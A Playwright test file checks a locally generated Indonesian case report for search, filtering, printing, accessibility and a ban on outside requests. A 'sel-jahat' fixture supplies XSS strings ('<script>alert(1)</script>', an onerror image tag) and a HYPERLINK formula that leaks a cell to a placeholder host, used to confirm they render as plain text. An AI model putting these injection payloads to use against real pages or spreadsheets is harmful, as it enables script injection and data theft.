/** laporan.html in a real browser: it works, can be used by everybody, and asks for nothing from anywhere. */
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { pathToFileURL } from "node:url";
import axe from "axe-core";
import type { Browser, BrowserContextOptions, Locator, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { ACTIONS, type Action } from "../../src/finding/codes.ts";
import { openHtmlReport } from "../../src/report/html/report.ts";
import { type RecordedRun, recordedRun, written } from "../report/recorded-run.ts";
import { HAS_CHROMIUM, launchChromium, NO_CHROMIUM } from "./chromium.ts";

if (!HAS_CHROMIUM) console.warn(NO_CHROMIUM);

const WIDE = { width: 1280, height: 900 };
const PHONE = { width: 320, height: 640 };

describe.skipIf(!HAS_CHROMIUM)("the report in a browser", () => {
  let folder: string;
  let browser: Browser;
  const runs = new Map<string, RecordedRun>();

  beforeAll(async () => {
    browser = await launchChromium();
    folder = mkdtempSync(path.join(tmpdir(), "cocok-browser-"));
    for (const story of ["musi-rawas", "sel-jahat"]) {
      const run = await recordedRun(story);
      runs.set(story, run);
      const files = await written(openHtmlReport, run);
      writeFileSync(path.join(folder, `${story}.html`), files.get("laporan.html")!);
    }
  });

  afterAll(async () => {
    await browser.close();
    rmSync(folder, { recursive: true });
  });

  /** What went wrong on a page, and what it asked for. */
  let complaints: string[] = [];
  let requests: string[] = [];
  afterEach(async () => {
    for (const context of browser.contexts()) await context.close();
    expect(complaints).toEqual([]);
    expect(requests.filter((url) => !url.startsWith(pathToFileURL(folder).href))).toEqual([]);
  });

  async function open(story: string, options: BrowserContextOptions = {}, hash = ""): Promise<Page> {
    const context = await browser.newContext({ viewport: WIDE, ...options });
    const page = await context.newPage();
    complaints = [];
    requests = [];
    page.on("console", (message) => complaints.push(message.text()));
    page.on("pageerror", (error) => complaints.push(error.message));
    page.on("request", (request) => requests.push(request.url()));
    await page.goto(pathToFileURL(path.join(folder, `${story}.html`)).href + hash);
    return page;
  }

  const shownCases = (page: Page): Locator => page.locator("#list > li:visible");
  const names = (page: Page): Promise<string[]> =>
    page.locator("#list > li:visible summary b").allInnerTexts();
  const choice = (page: Page, name: string): Locator => page.getByRole("combobox", { name, exact: true });
  const countOf = (story: string, action: Action): number =>
    runs.get(story)!.end.summary.cases.by_action[action];

  test("asks for the page itself and for nothing else", async () => {
    const page = await open("musi-rawas");
    await page.getByRole("button", { name: "Buka semua" }).click();
    await page.waitForLoadState("networkidle");
    expect(requests).toEqual([pathToFileURL(path.join(folder, "musi-rawas.html")).href]);
  });

  describe("searching", () => {
    test.each([
      ["a name", "hartimi", ["HARTIMI"]],
      ["a name as a source has it", "HARTINI", ["HARTIMI"]],
      ["a whole NIK, written in groups", "1605 1366 0782 9098", ["HARTIMI"]],
      ["the end of a NIK", "7829098", ["HARTIMI"]],
      ["a name and an agency", "hartimi kesehatan", ["HARTIMI"]],
      ["nothing there is", "tidak ada orang ini", []],
    ])("finds %s", async (_, words, expected) => {
      const page = await open("musi-rawas");
      await page.getByRole("searchbox").fill(words);
      expect(await names(page)).toEqual(expected);
      await expect(page.locator("#nobody").isVisible()).resolves.toBe(expected.length === 0);
      expect(await page.getByRole("status").textContent()).toContain(`${expected.length} dari 111 kasus`);
    });

    test("finds a case by its number, and words only where a word begins", async () => {
      const page = await open("musi-rawas");
      const { caseId } = runs.get("musi-rawas")!.cases[5]!;
      await page.getByRole("searchbox").fill(caseId);
      expect(await shownCases(page).count()).toBe(1);
      expect(await shownCases(page).getAttribute("id")).toBe(caseId);
      await page.getByRole("searchbox").fill("artimi");
      expect(await names(page)).toEqual([]);
    });
  });

  describe("filtering", () => {
    test("by action, by agency and by finding, together and not at all", async () => {
      const page = await open("musi-rawas");
      await choice(page, "Tindak lanjut").selectOption("panggil");
      expect(await shownCases(page).count()).toBe(countOf("musi-rawas", "interview"));
      await choice(page, "OPD").selectOption("Dinas Pendidikan");
      const both = runs
        .get("musi-rawas")!
        .cases.filter(
          ({ action, evidence }) => action === "interview" && evidence.roster.unit === "Dinas Pendidikan",
        );
      expect(await shownCases(page).count()).toBe(both.length);
      await choice(page, "Temuan").selectOption("NIK milik orang lain");
      const all = both.filter(({ findings }) => findings.some(({ code }) => code === "nik.belongs_to_other"));
      expect(await shownCases(page).count()).toBe(all.length);
      await page.getByRole("button", { name: "Hapus saringan" }).click();
      expect(await shownCases(page).count()).toBe(111);
    });

    test("a figure of the overview leads to the cases it counts", async () => {
      const page = await open("musi-rawas");
      await page.locator("#actions").getByRole("link", { name: "perbaiki daftar" }).click();
      expect(await shownCases(page).count()).toBe(countOf("musi-rawas", "fix_roster"));
      await page.locator("#codes").getByRole("link", { name: "Dua angka NIK tertukar" }).click();
      expect(await shownCases(page).count()).toBe(
        runs.get("musi-rawas")!.end.summary.cases.by_code["nik.transposed"],
      );
      await page.locator("#units").getByRole("link", { name: "RSUD dr. Sobirin" }).click();
      expect(await shownCases(page).count()).toBe(11);
      expect(await page.getByRole("status").textContent()).toContain("RSUD dr. Sobirin");
    });
  });

  test("sorts by name, by roster order, and back to the most pressing", async () => {
    const page = await open("musi-rawas");
    const sort = choice(page, "Urutkan");
    const pressing = await names(page);
    await sort.selectOption("Nama A–Z");
    const byName = (await names(page)).map((name) => name.toLowerCase());
    expect(byName).toEqual(byName.toSorted());
    await sort.selectOption("Urutan daftar");
    expect((await names(page))[0]).toBe(runs.get("musi-rawas")!.cases[0]!.evidence.roster.cells.name);
    await sort.selectOption("Paling mendesak");
    expect(await names(page)).toEqual(pressing);
  });

  test("opens the case whose number is in the address", async () => {
    const { caseId } = runs.get("musi-rawas")!.cases[30]!;
    const page = await open("musi-rawas", {}, `#${caseId}`);
    expect(await page.locator("#list details[open]").count()).toBe(1);
    expect(await page.locator(`[id="${caseId}"] table`).isVisible()).toBe(true);
  });

  test("can be used with the keyboard alone", async () => {
    const page = await open("musi-rawas");
    const focused = (): Promise<unknown> =>
      page.evaluate(
        "document.activeElement.id || document.activeElement.className || document.activeElement.tagName",
      );
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("skip");
    await page.keyboard.press("Enter");
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("f-search");
    await page.keyboard.type("maya");
    expect(await names(page)).toEqual(["Maya Anggraini, S.Pd."]);
    const passed: unknown[] = [];
    for (let at = 0; at < 8; at++) {
      await page.keyboard.press("Tab");
      passed.push(await focused());
    }
    expect(passed).toEqual(["f-unit", "f-action", "f-code", "f-sort", "reset", "open", "close", "print"]);
    await page.keyboard.press("Tab");
    expect(await focused()).toBe("SUMMARY");
    expect(await page.evaluate("getComputedStyle(document.activeElement).outlineStyle")).toBe("solid");
    await page.keyboard.press("Enter");
    expect(await page.locator("#list table:visible").count()).toBe(1);
    await page.keyboard.press("Enter");
    expect(await page.locator("#list table:visible").count()).toBe(0);
  });

  test("opens and closes all that are shown, and only those", async () => {
    const page = await open("musi-rawas");
    await page.getByRole("searchbox").fill("sari");
    const shown = await shownCases(page).count();
    expect(shown).toBeGreaterThan(1);
    await page.getByRole("button", { name: "Buka semua" }).click();
    expect(await page.locator("#list details[open]").count()).toBe(shown);
    await page.getByRole("button", { name: "Tutup semua" }).click();
    expect(await page.locator("#list details[open]").count()).toBe(0);
  });

  test("prints on A4 what is shown and no more", async () => {
    const page = await open("musi-rawas");
    const pages = async (): Promise<number> => {
      const pdf = (await page.pdf({ preferCSSPageSize: true })).toString("latin1");
      expect(pdf.startsWith("%PDF-")).toBe(true);
      // 210 × 297 mm in points
      expect(pdf).toMatch(/\/MediaBox \[0 0 59[45][.\d]* 84[12][.\d]*\]/);
      return pdf.match(/\/Type \/Page\b/g)!.length;
    };
    const all = await pages();
    await page.getByRole("button", { name: "Buka semua" }).click();
    expect(await pages()).toBeGreaterThan(all);
    await page.getByRole("searchbox").fill("hartimi");
    expect(await pages()).toBeLessThan(all);
    await page.emulateMedia({ media: "print" });
    expect(await names(page)).toEqual(["HARTIMI"]);
    expect(await page.getByRole("searchbox").isVisible()).toBe(false);
    expect(await page.getByRole("button").count()).toBe(0);
    expect(await page.locator("#status").textContent()).toContain("hartimi");
  });

  test("shows at its edge that a table goes on, where it is wider than a phone", async () => {
    const page = await open("musi-rawas");
    await page.setViewportSize({ width: 360, height: 800 });
    const table = page.locator("#duplicates .scroll");
    const edge = async (): Promise<Buffer> => {
      const { x, y, width } = (await table.boundingBox())!;
      return page.screenshot({ clip: { x: x + width - 8, y: y + 2, width: 8, height: 12 } });
    };
    await table.scrollIntoViewIfNeeded();
    const more = await edge();
    await table.evaluate((frame) => frame.scrollTo({ left: frame.scrollWidth }));
    expect((await edge()).equals(more)).toBe(false);
  });

  /** What stands in each cell of the duplicates, and over how many lines. */
  const LINES = `[...document.querySelectorAll("#duplicates tbody :is(td, th)")].map((cell) => {
    const range = document.createRange();
    range.selectNodeContents(cell);
    return [cell.innerText, new Set([...range.getClientRects()].map(({ top }) => Math.round(top))).size];
  })`;

  test("squeezes no cell of the duplicates to more than three lines, and breaks no date in figures", async () => {
    const page = await open("musi-rawas", { viewport: PHONE });
    const cells = (await page.evaluate(LINES)) as [string, number][];
    const dates = cells.filter(([text]) => /^[\d/-]{10}$/.test(text));
    expect(dates).not.toEqual([]);
    expect(dates.filter(([, lines]) => lines > 1)).toEqual([]);
    expect(cells.filter(([, lines]) => lines > 3)).toEqual([]);
  });

  /** The width of the order's select, and the one it would have by itself. */
  const MEASURED = `(() => {
    const select = document.getElementById("f-sort");
    const free = document.body.appendChild(select.cloneNode(true));
    free.style.cssText = "position:absolute;font-size:1rem";
    const widths = [select, free].map((node) => node.getBoundingClientRect().width);
    free.remove();
    return widths;
  })()`;

  test("has room for every choice of the order, and at half a screen too", async () => {
    const page = await open("musi-rawas");
    for (const width of [1100, 1280]) {
      await page.setViewportSize({ width, height: 800 });
      const [given, needed] = (await page.evaluate(MEASURED)) as [number, number];
      expect(given, `${width}`).toBeGreaterThanOrEqual(needed);
      // the other filters need theirs
      expect(given, `${width}`).toBeLessThan(width / 5);
    }
  });

  test("reads without a script", async () => {
    const page = await open("musi-rawas", { javaScriptEnabled: false });
    expect(await shownCases(page).count()).toBe(111);
    expect(await page.getByRole("searchbox").count()).toBe(0);
    await page.locator("summary", { hasText: "HARTIMI" }).click();
    expect(await page.locator("#list table:visible").textContent()).toContain("HARTINI");
  });

  test.each(["musi-rawas", "sel-jahat"])("fits a phone 320 pixels wide: %s", async (story) => {
    const page = await open(story, { viewport: PHONE });
    await page.getByRole("button", { name: "Buka semua" }).click();
    expect(await page.evaluate("document.documentElement.scrollWidth")).toBe(PHONE.width);
  });

  test("is dark where the system is, and still where it wants no motion", async () => {
    const brightness = async (page: Page): Promise<number> => {
      const color = String(await page.evaluate("getComputedStyle(document.body).backgroundColor"));
      return color.match(/\d+/g)!.reduce((sum, part) => sum + Number(part), 0);
    };
    expect(await brightness(await open("musi-rawas", { colorScheme: "light" }))).toBeGreaterThan(600);
    const page = await open("musi-rawas", { colorScheme: "dark", reducedMotion: "reduce" });
    expect(await brightness(page)).toBeLessThan(150);
    const moves = 'getComputedStyle(document.querySelector("summary"), "::after").transitionDuration';
    expect(await page.evaluate(moves)).toBe("0s");
  });

  describe("what the cells hold", () => {
    test("stays text", async () => {
      const page = await open("sel-jahat");
      page.on("dialog", (dialog) => complaints.push(`dialog: ${dialog.message()}`));
      await page.getByRole("button", { name: "Buka semua" }).click();
      expect(await names(page)).toContain("<script>alert(1)</script>");
      expect(await names(page)).toContain('=HYPERLINK("http://contoh.invalid/?n="&B2,"klik di sini")');
      expect(await choice(page, "OPD").textContent()).toContain("<img src=x onerror=alert(1)>");
      expect(await page.locator("img").count()).toBe(0);
      expect(await page.locator("script").count()).toBe(1);
      const links = await page.evaluate("Array.from(document.links, (link) => link.getAttribute('href'))");
      for (const link of links as string[]) expect(link).toMatch(/^#/);
    });

    test("could do nothing even as markup", async () => {
      const page = await open("musi-rawas");
      await page.evaluate(
        `document.body.insertAdjacentHTML("beforeend", '<img src="x.png" onerror="window.hit = 1"><p id="styled" style="color: red">')`,
      );
      await page.evaluate(
        `document.body.append(Object.assign(document.createElement("script"), { textContent: "window.hit = 1" }))`,
      );
      await page.waitForTimeout(200);
      expect(await page.evaluate("window.hit")).toBeUndefined();
      expect(await page.evaluate(`getComputedStyle(document.getElementById("styled")).color`)).not.toBe(
        "rgb(255, 0, 0)",
      );
      expect(complaints.length).toBeGreaterThanOrEqual(3);
      for (const complaint of complaints) expect(complaint).toContain("Content Security Policy");
      complaints = [];
    });
  });

  describe.each(["light", "dark"] as const)("in %s colours", (colorScheme) => {
    test.each([
      ["musi-rawas", WIDE],
      ["musi-rawas", PHONE],
      ["sel-jahat", WIDE],
    ])("nothing stands in anybody's way: %s at %o", async (story, viewport) => {
      const page = await open(story, { colorScheme, viewport });
      // one case of every action is enough to see
      for (const action of ACTIONS) {
        const summary = page.locator(`#list > li[data-action="${action}"] summary`).first();
        if ((await summary.count()) > 0) await summary.click();
      }
      await page.evaluate(axe.source);
      const { violations } = (await page.evaluate("axe.run()")) as axe.AxeResults;
      const told = violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ""} (${nodes.length})`);
      expect(told).toEqual([]);
    });
  });
});
